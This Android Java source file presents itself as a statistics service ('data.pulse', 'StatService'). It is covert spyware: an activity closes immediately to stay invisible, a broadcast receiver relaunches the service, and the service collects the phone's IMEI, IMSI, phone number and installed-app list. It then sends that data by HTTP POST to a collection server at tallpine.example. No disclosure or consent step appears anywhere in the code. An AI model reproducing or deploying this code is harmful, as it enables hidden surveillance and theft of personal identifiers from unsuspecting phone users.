package com.data.pulse;

class QuietActivity extends Activity {
  public void onCreate(Bundle state) {
    super.onCreate(state);
    startService(new Intent(this, StatService.class));
    finish();
  }
}

class StatReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    context.startService(new Intent(context, StatService.class));
  }
}

class StatService extends IntentService {
  StatService() { super("StatService"); }

  public void onHandleIntent(Intent intent) {
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String who = phone.getDeviceId() + "|" + phone.getSubscriberId() + "|" + phone.getLine1Number();
    StringBuilder apps = new StringBuilder();
    List installed = getPackageManager().getInstalledPackages(0);
    for (int i = 0; i < installed.size(); i++) {
      PackageInfo info = (PackageInfo) installed.get(i);
      apps.append(info.packageName).append(";");
    }
    post("who=" + who + "&apps=" + apps.toString());
  }

  private void post(String body) {
    try {
      HttpURLConnection connection = (HttpURLConnection) new URL("http://dc.tallpine.example:8082/dc/save").openConnection();
      connection.setRequestMethod("POST");
      connection.setDoOutput(true);
      OutputStream out = connection.getOutputStream();
      out.write(body.getBytes());
      out.close();
      connection.getResponseCode();
    } catch (Exception e) {
      Log.e("Stat", e.getMessage());
    }
  }
}
